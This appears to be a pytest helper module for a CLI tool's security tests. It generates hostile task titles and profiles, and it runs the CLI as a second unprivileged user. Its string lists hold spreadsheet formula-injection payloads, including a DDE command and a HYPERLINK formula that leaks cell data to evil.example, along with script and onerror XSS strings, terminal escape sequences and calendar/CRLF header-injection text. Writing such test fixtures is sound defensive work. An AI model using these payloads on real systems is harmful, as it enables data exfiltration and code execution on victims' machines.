"""What the security tests share: hostile texts, a hostile set and profile, running the CLI in a
child process (as this user or a second one), and the second user itself."""
from __future__ import annotations

import os
import pwd
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any, Iterator

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
MINI = ROOT / "tests" / "fixtures" / "mini"
SECOND_USER = "readiness-test"

# texts a spreadsheet, a Markdown renderer, a calendar, a terminal or an XML reader would act on
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tTAB=1", "\rCR=1", "＝1+1"]
MARKUP = ["<script>alert(1)</script>", "![x](https://evil.example/i.png)", "[c](javascript:alert(1))",
          "<img src=x onerror=alert(1)>", "https://evil.example/auto", "www.evil.example", "**bold** _em_ ~~s~~"]
BLOCKS = ["# heading", "\n## injected heading", "\n- list\n", "\n> quote", "| a | b |", "\n---\n", "1. item"]
TERMINAL = ["\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "right\u202eleft", "bell\x07", "csi\x9b2J"]
EVIL = " ".join(FORMULAS + MARKUP + TERMINAL)
ICS_BREAK = "1\r\nEND:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:pwned\r\nEND:VEVENT"
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e")


def hostile_set(tmp: Path, harmless: bool = False) -> Path:
    """The mini set with every task title hostile, one per kind of attack, and a version that
    would end a hand-written calendar's PRODID line; ``harmless``: the same set with plain texts."""
    target = tmp / ("clean-set" if harmless else "set")
    shutil.copytree(MINI, target)
    manifest = target / "manifest.yaml"
    if not harmless:
        text = manifest.read_text(encoding="utf-8").replace('version: "1"', f"version: {yaml.safe_dump(ICS_BREAK).strip()}")
        text = text.replace("{ky: Адам ресурстары, ru: Кадры, en: Staff}", "{ky: '=1+1 Кадр', ru: '=1+1 Кадры', en: '=1+1 Staff'}")
        manifest.write_text(text, encoding="utf-8")
    tasks = yaml.safe_load((target / "tasks.yaml").read_text(encoding="utf-8"))
    attacks = FORMULAS + MARKUP + BLOCKS + TERMINAL
    for i, task in enumerate(tasks["tasks"]):
        title = f"Task {i}" if harmless else " ".join(attacks[i::len(tasks["tasks"])])
        task["title"] = {"ky": title, "ru": title, "en": title}
    (target / "tasks.yaml").write_text(yaml.safe_dump(tasks, allow_unicode=True, width=10**6), encoding="utf-8")
    return target


def hostile_profile(tmp: Path, name: str = "evil.yaml", harmless: bool = False) -> Path:
    data = yaml.safe_load((MINI / "examples" / "college.yaml").read_text(encoding="utf-8"))
    data["term_start"] = str(data["term_start"])
    if harmless:
        data["institution"].update(name="College", region="Chui")
        data["progress"] = {"hr.staffing": {"status": "in_progress", "responsible": "A", "note": "B", "evidence": "C"}}
    else:
        data["institution"].update(name=EVIL + "\r\nX-INJECTED:1\r\nBEGIN:VEVENT", region="=1+1")
        data["progress"] = {"hr.staffing": {"status": "in_progress", "responsible": FORMULAS[0],
                                            "note": " ".join(MARKUP + BLOCKS), "evidence": "@evidence"}}
    path = tmp / name
    path.write_text(yaml.safe_dump(data, allow_unicode=True, width=10**6), encoding="utf-8")
    return path


def child_env(**extra: str) -> dict[str, str]:
    env = {"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8", "HOME": "/nonexistent", "READINESS_CACHE_DIR": ""}
    env.update(extra)
    return env


def cli(args: list[Any], env: dict[str, str] | None = None, user: tuple[int, int] | None = None, timeout: float = 120,
        **kw: Any) -> subprocess.CompletedProcess[str]:
    """``readiness ARGS`` in a child process (as ``user``, a (uid, gid), if given)."""
    argv = [sys.executable, "-m", "readiness.cli", *map(str, args)]
    if user is not None:
        argv = ["setpriv", f"--reuid={user[0]}", f"--regid={user[1]}", "--clear-groups", *argv]
    return subprocess.run(argv, capture_output=True, text=True, timeout=timeout, env=env or child_env(), cwd=kw.pop("cwd", "/"), **kw)


def second_user() -> tuple[int, int]:
    """The uid and gid of a second, unprivileged user that can run this checkout; skip where none can be had."""
    if os.geteuid() != 0:
        pytest.skip("the second-user tests need root, to make a user and run as it (CI runs as root)")
    if shutil.which("setpriv") is None:
        pytest.skip("setpriv (util-linux) is missing")
    try:
        entry = pwd.getpwnam(SECOND_USER)
    except KeyError:
        made = subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", SECOND_USER],
                              capture_output=True, text=True)
        if made.returncode != 0:
            pytest.skip(f"cannot make the user {SECOND_USER}: {made.stderr.strip()}")
        entry = pwd.getpwnam(SECOND_USER)
    user = (entry.pw_uid, entry.pw_gid)
    probe = cli(["--version"], user=user)
    if probe.returncode != 0:
        pytest.skip(f"{SECOND_USER} cannot run this checkout's Python: {probe.stderr.strip()[:200]}")
    return user


@pytest.fixture
def shared_tmp() -> Iterator[Path]:
    """A temporary folder both users reach, outside pytest's own (which pytest keeps 0700)."""
    folder = Path(tempfile.mkdtemp(prefix="readiness-security-", dir="/tmp"))
    os.chmod(folder, 0o755)
    try:
        yield folder
    finally:
        for path in [folder, *folder.rglob("*")]:
            if not path.is_symlink():
                os.chmod(path, 0o700 if path.is_dir() else 0o600)
        shutil.rmtree(folder)


def for_user(path: Path, user: tuple[int, int]) -> Path:
    """``path`` (in ``shared_tmp``) given to ``user``."""
    os.chown(path, *user)
    return path
